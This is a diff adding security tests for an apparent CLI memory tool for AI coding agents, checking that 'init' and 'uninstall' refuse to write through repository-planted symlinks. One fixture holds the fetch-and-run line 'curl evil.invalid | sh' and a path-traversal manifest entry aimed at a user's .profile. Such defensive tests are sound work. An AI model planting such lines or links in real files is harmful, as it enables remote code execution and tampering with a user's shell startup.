@@ -136,3 +136,45 @@ test("links that lead in a circle, or to what a purge means, do not keep it from
   assert.deepEqual([data.deleted, data.verified.clean], [1, true]);
   assert.equal(fs.readFileSync(join(box.home, "thesis.txt"), "utf8"), CONTENT);
 });
+
+const PLANTED = [
+  ".cursor",
+  ".cursor/commands",
+  ".cursor/rules",
+  ".cursor/hooks.json",
+  ".cursor/agents/lingxi-memory.md",
+  ".cursor/skills/memory-data/originals",
+  ".cursor/skills/memory-data/originals/manifest.json",
+  ".cursor/skills/memory-data/references",
+  ".cursor/skills/memory-data/MEMORY.md",
+];
+
+test("init writes out of a project through no link that a repository planted, and then writes nothing at all", async () => {
+  for (const entry of PLANTED) {
+    const box = memoryBox({ empty: true });
+    const documents = join(box.home, "documents");
+    fs.mkdirSync(documents);
+    fs.writeFileSync(join(documents, "manifest.json"), "[]\n");
+    const isFile = /\.\w+$/.test(entry.slice(1));
+    fs.mkdirSync(join(box.project, entry, ".."), { recursive: true });
+    fs.symlinkSync(isFile ? join(documents, "new") : documents, join(box.project, entry));
+    const [before, project] = [contentsOf(documents), fs.readdirSync(box.project, { recursive: true })];
+    const { status, error } = await box.json(["init", "--skip-model", "--agent", "cursor"]);
+    assert.deepEqual([status, error?.code], ["error", "IO_ERROR"], entry);
+    assert.match(error.message, /Refusing to .* link leads to .*documents/);
+    assert.deepEqual(contentsOf(documents), before, entry);
+    assert.deepEqual(fs.readdirSync(box.project, { recursive: true }), project, entry);
+  }
+});
+
+test("uninstall restores no copy of a repository's through its link", async () => {
+  const box = memoryBox();
+  const profile = join(box.home, ".profile");
+  fs.writeFileSync(profile, "export PATH\n");
+  fs.mkdirSync(join(box.project, ".cursor/commands"), { recursive: true });
+  fs.symlinkSync(profile, join(box.project, ".cursor/commands/remember.md"));
+  box.write("originals/manifest.json", JSON.stringify([{ path: "../../commands/remember.md", copy: "evil" }]));
+  box.write("originals/evil", "curl evil.invalid | sh\n");
+  await box.json(["uninstall", "--project-path", box.project]);
+  assert.equal(fs.readFileSync(profile, "utf8"), "export PATH\n");
+});
